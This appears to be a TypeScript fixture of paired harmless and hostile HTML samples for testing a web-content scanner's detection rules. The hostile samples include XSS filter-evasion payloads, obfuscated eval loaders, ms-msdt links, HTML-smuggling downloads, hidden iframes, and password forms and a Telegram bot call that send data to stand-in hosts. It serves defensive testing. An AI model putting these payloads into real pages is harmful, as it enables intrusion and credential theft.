import type { WebSample } from "./web.ts";

const html = (body: string, head = "") =>
  `<!DOCTYPE html>\n<html><head><title>Claim</title>${head}</head>\n<body>${body}</body></html>`;
const script = (code: string) => html(`<script>${code}</script>`);
const escaped = (text: string) =>
  [...text].map((character) => `%${character.charCodeAt(0).toString(16)}`).join("");
const codes = (text: string) => [...text].map((character) => character.charCodeAt(0)).join(",");
const markup = `<script>location = 'https://example.com/'</script>${" ".repeat(400)}`;
const mail = "<a href='mailto:ada@example.com'>ada@example.com</a>";
/** A ZIP file and a PNG of some length. */
const archive = Buffer.concat([Buffer.from("PK\x03\x04"), Buffer.alloc(600, 1)]).toString("base64");
const picture = Buffer.concat([Buffer.from("\x89PNG\r\n", "latin1"), Buffer.alloc(600, 1)]).toString(
  "base64",
);
const login = (action: string) =>
  html(`<form action='${action}' method='post'><input name='user'><input type='password'></form>`);

export const htmlSamples: readonly WebSample[] = [
  {
    rule: "html-script",
    filename: "letter.html",
    harmless: [
      html("<p>script</p>"),
      html("", '<script type="application/ld+json">{"@type": "Person"}</script>'),
      html("&lt;script>"),
    ],
    hostile: [
      script("alert(1)"),
      html("<p>Claim<ScRiPt src=https://example.com/a.js></sCrIpT>"),
      html("<script/x>alert(1)</script>"),
      html("<!--><script>alert(1)</script>-->"),
      html("<textarea></textarea ><script>alert(1)</script>"),
      html("<!--[if IE]><script>alert(1)</script><![endif]-->"),
      html("<svg><style><!--</style><script>alert(1)</script>--></svg>"),
    ],
  },
  {
    rule: "html-handler",
    filename: "letter.html",
    harmless: [html("<p title='onclick'>x</p>")],
    hostile: [html("<p onclick=alert(1)>x</p>"), html("<img/src='x'/OnErRoR=alert(1)>")],
  },
  {
    rule: "html-script-link",
    filename: "letter.html",
    harmless: [html("<a href='javascript:void(0)'>x</a>")],
    hostile: [
      html("<a href='javascript:alert(1)'>x</a>"),
      html("<form action='javascript:alert(1)'></form>"),
      html("<button formaction=' JAVASCRIPT:alert(1)'>x</button>"),
    ],
  },
  {
    rule: "html-script-url",
    filename: "letter.html",
    harmless: [
      html("<a href='https://example.com/'>x</a>"),
      html("<a href='javascript:print()'>x</a>"),
      html("<img src='data:image/png;base64,iVBORw0KGgo='>"),
      html("<script src='data:text/javascript;base64,cHJpbnQoKQ=='></script>"),
    ],
    hostile: [
      html("<a href='&Tab;java&NewLine;script&colon;alert(1)'>x</a>"),
      html("<a href='jav&#x0A;ascript:alert(1)'>x</a>"),
      html("<a href='&#106;avascript:alert(1)'>x</a>"),
      html("<a href='\u0001javascript:alert(1)'>x</a>"),
      html("<img src='javascript:alert(1)'>"),
      html("<a href='vbscript:msgbox(1)'>x</a>"),
      html("<a href='ms-msdt:/id PCWDiagnostic'>x</a>"),
      html("<a href='search-ms:query=x&crumb=location:\\\\example.com'>x</a>"),
      html("<a href='data:text/html,x'>x</a>"),
      html("<iframe src='data:text/html;base64,eA=='></iframe>"),
      html("<p style='width: expr/**/ession(alert(1))'>x</p>"),
      html("", "<meta http-equiv='refresh' content='0; url=javascript:alert(1)'>"),
    ],
  },
  {
    rule: "html-hidden-code",
    filename: "letter.html",
    harmless: [
      script('document.write(unescape("%3Cscript src=\'" + host + "/ga.js\'%3E%3C/script%3E"))'),
      script(`document.write(String.fromCharCode(${codes(mail)}))`),
      script(`document.write(unescape('${escaped(mail)}'))`),
      script("var name = String.fromCharCode(65); eval('name')"),
      html("", "<script src='https://example.com/a.js'></script>").replace("<body>", "<body><p>Claim"),
      html("<div id='app'></div><script src='app.js'></script>"),
      script(`var logo = '${picture}'; document.write(logo)`),
    ],
    hostile: [
      script("eval(String.fromCharCode(97, 108, 101))"),
      script("eval(unescape('%61%6c%65%72%74%28%31%29'))"),
      script("eval(atob('YWxlcnQoMSk='))"),
      html("<script src='https://example.com/a.js'></script>"),
      script("a = [60, 105]; for (i of a.keys()) s += String.fromCharCode(a[i]); for (;;) document.write(s)"),
      script("window.location.href = atob('aHR0cHM6Ly9leGFtcGxlLmNvbS8=')"),
      script("var code = unescape('%u9090%u9090')"),
      script(`document.write(unescape('${escaped(markup)}'))`),
      script(`document.write(unescape("${escape(markup)}"))`),
      script(`document.write(String.fromCharCode(${codes(markup)}))`),
      script(`var a = [${codes(markup)}]; for (i of a) document.write(String.fromCharCode(i))`),
      script(`var a = "${Buffer.from(markup).toString("base64")}"; document.write(window["at" + "ob"](a))`),
      script("for (i = 0; i < s.length; i++) t += String.fromCharCode(s.charCodeAt(i) ^ 7); eval(t)"),
      script("eval(function(p,a,c,k,e,d){return p}('0',1,1,'alert'.split('|'),0,{}))"),
      script("var _0x1a2b3c=['a'],_0x1a2b3d=_0x1a2b3c[0],_0x1a2b3e=1,_0x1a2b3f=2;"),
      script('window["ev" + "al"](x)'),
      html("<!-- --!><script>eval(atob('YWxlcnQoMSk='))</script>-->"),
      html("<script>a()</script><p>\u001b$B<a/title='\u001b(B<script>eval(atob(`YWxlcnQoMSk=`))</script>'>"),
      html("<p onclick=\"eval(atob('YWxlcnQoMSk='))\">x</p>"),
      html("<a href=\"javascript:eval(atob('YWxlcnQoMSk='))\">x</a>"),
      html(
        `<script src='data:text/javascript;base64,${Buffer.from("eval(atob('YWxlcnQoMSk='))").toString("base64")}'></script>`,
      ),
    ],
  },
  {
    rule: "html-windows-script",
    filename: "letter.html",
    harmless: [
      script("var request = new ActiveXObject('Microsoft.XMLHTTP')"),
      html(
        '<script language="VBScript">On Error Resume Next\nf = IsObject(CreateObject("ShockwaveFlash.ShockwaveFlash.6"))</script>',
      ),
      html("<pre>new ActiveXObject('WScript.Shell')</pre>"),
    ],
    hostile: [
      script("new ActiveXObject('WScript.Shell').Run('calc')"),
      script("new ActiveXObject('WScr' + 'ipt.Shell')"),
      script("location.href = 'ms-msdt:/id PCWDiagnostic'"),
      html('<script language="VBScript">Set a = CreateObject("Shell.Application")</script>'),
      html("<script type='text/vbscript'>msgbox 1</script>"),
      html("<script language='JScript.Encode'>#@~^</script>"),
    ],
  },
  {
    rule: "html-smuggling",
    filename: "letter.html",
    harmless: [
      html("<a href='claim.pdf' download>x</a>"),
      html("<a href='data:text/csv,a;b' download='a.csv'>x</a>"),
      script(
        "b = bytes(atob(canvas.toDataURL())); a.href = URL.createObjectURL(new Blob([b])); a.download = 'a.png'; a.click()",
      ),
      script("save = () => URL.createObjectURL(new Blob([table.innerText], { type: 'text/csv' }))"),
      script(`URL.createObjectURL(new Blob([new Uint8Array(decode('${picture}'))]))`),
    ],
    hostile: [
      html("<a href='data:application/zip;base64,UEsDBA==' download='a.zip'>x</a>"),
      script("new Blob([atob('TVo=')])"),
      script(
        `var b = new Blob([Uint8Array.from(window.atob('${archive}'), c => c.charCodeAt(0))]); a.href = URL.createObjectURL(b)`,
      ),
      script("navigator.msSaveOrOpenBlob(b, 'a.exe')"),
      script(
        "fetch('data:application/octet-stream;base64,' + d).then(r => r.blob()).then(b => { a.href = URL.createObjectURL(b); a.download = 'x'; a.click() })",
      ),
      script(
        "var s = atob('TVo='), b = new Uint8Array(2); for (i in s) b[i] = s.charCodeAt(i); a.href = URL.createObjectURL(new Blob([b])); a.download = name; a.click()",
      ),
      script("a.href = URL.createObjectURL(new Blob(parts)); a.download = 'invoice.iso'"),
    ],
  },
  {
    rule: "html-frame",
    filename: "letter.html",
    harmless: [html("<p>iframe</p>"), html("<iframe></iframe>"), html("<iframe srcdoc='&lt;p>x'></iframe>")],
    hostile: [
      html("<iframe src='https://example.com/'></iframe>"),
      html("<object data='a.swf'></object>"),
      html("<embed src='a.swf'>"),
    ],
  },
  {
    rule: "html-hidden-frame",
    filename: "letter.html",
    harmless: [
      html("<noscript><iframe src='https://example.com/' height='0' width='0'></iframe></noscript>"),
      html("<iframe src='next.html' style='display: none'></iframe>"),
      script(
        'document.write(\'<iframe src="https://1.fls.doubleclick.net/a" width="1" height="1"></iframe>\')',
      ),
      html("<p style='display: none'>x</p><iframe src='https://example.com/'></iframe>"),
    ],
    hostile: [
      html("<iframe src='https://example.com/' width=1 height=1></iframe>"),
      html("<iframe src='//example.com/' style='visibility:hidden'></iframe>"),
      script('document.write(\'<iframe src="https://example.com/" width="1" height="1"></iframe>\')'),
      html("<div style='display: none'><p><iframe src='https://example.com/'></iframe></p></div>"),
    ],
  },
  {
    rule: "html-object",
    filename: "letter.html",
    harmless: [
      html("<object classid='clsid:D27CDB6E-AE6D-11cf-96B8-444553540000'><embed src='a.swf'></object>"),
    ],
    hostile: [
      html("<object data='https://example.com/a.hta'></object>"),
      html("<applet code='A.class'></applet>"),
      html("<object classid='clsid:F935DC22-1CF0-11D0-ADB9-00C04FD58A0B'></object>"),
    ],
  },
  {
    rule: "html-form",
    filename: "letter.html",
    harmless: [
      html("<form action='https://example.com/search'><input name='q'></form>"),
      html("<form method='post' action='/next'><input name='q'></form>"),
    ],
    hostile: [
      html("<form method='post' action='https://example.com/'><input name='p'></form>"),
      html("<form action='mailto:a@example.com'></form>"),
      html("<form method='post'><button formaction='https://example.com/'>x</button></form>"),
    ],
  },
  {
    rule: "html-password-form",
    filename: "letter.html",
    harmless: [
      login("/login"),
      html("<form action='https://example.com/search'><input name='passage'></form>"),
      script("fetch('https://example.com/', { method: 'post' })"),
    ],
    hostile: [
      login("https://example.com/a.php"),
      login("//example.com/a.php"),
      html("<form method='post' action='https://example.com/'><input placeholder='Password'></form>"),
      html("<input type='password'><script>$.post('https://example.com/a.php', data)</script>"),
      html("<input type='password'><script>fetch(atob('aHR0cHM6Ly8='), { method: 'post' })</script>"),
      script("fetch('https://api.telegram.org/bot1:a/sendMessage')"),
    ],
  },
  {
    rule: "html-refresh",
    filename: "letter.html",
    harmless: [
      html("", "<meta http-equiv='refresh' content='30'>"),
      html("", "<meta http-equiv='refresh' content='0; url=next.html'>"),
      html("", "<meta http-equiv='refresh' content='900; url=https://example.com/'>"),
      script("location.href = 'next.html'"),
      script("if (top !== self) top.location = 'https://example.com/'"),
    ],
    hostile: [
      html("", "<meta http-equiv='refresh' content='0; url=https://example.com/'>"),
      html("", "<meta http-equiv=' Refresh' content='0,URL=\"https://example.com/\"'>"),
      script("window.location.href = 'https://example.com/'"),
      script("setTimeout(() => location.replace('https://example.com/'), 0)"),
    ],
  },
  {
    rule: "html-base",
    filename: "letter.html",
    harmless: [html("", "<base href='docs/'>"), html("", "<base target='_blank'>")],
    hostile: [html("", "<base href='https://example.com/'>")],
  },
  {
    rule: "html-external-resource",
    filename: "letter.html",
    harmless: [html("<img src='a.png'>"), html("<a href='https://example.com/a.png'>x</a>")],
    hostile: [
      html("<img src='https://example.com/a.png'>"),
      html("", "<link rel='stylesheet' href='//example.com/a.css'>"),
      html("", "<style>@import 'https://example.com/a.css';</style>"),
    ],
  },
  {
    rule: "html-file-share",
    filename: "letter.html",
    harmless: [
      html("<img src='a.png'>"),
      html("", "<link rel='File-List' href='file:///C:/a/filelist.xml'>"),
    ],
    hostile: [
      html("<img src='\\\\example.com\\a.png'>"),
      html("<a href='file://example.com/a.lnk'>x</a>"),
      html("<p style='background: url(file:////example.com/a.png)'>x</p>"),
    ],
  },
];
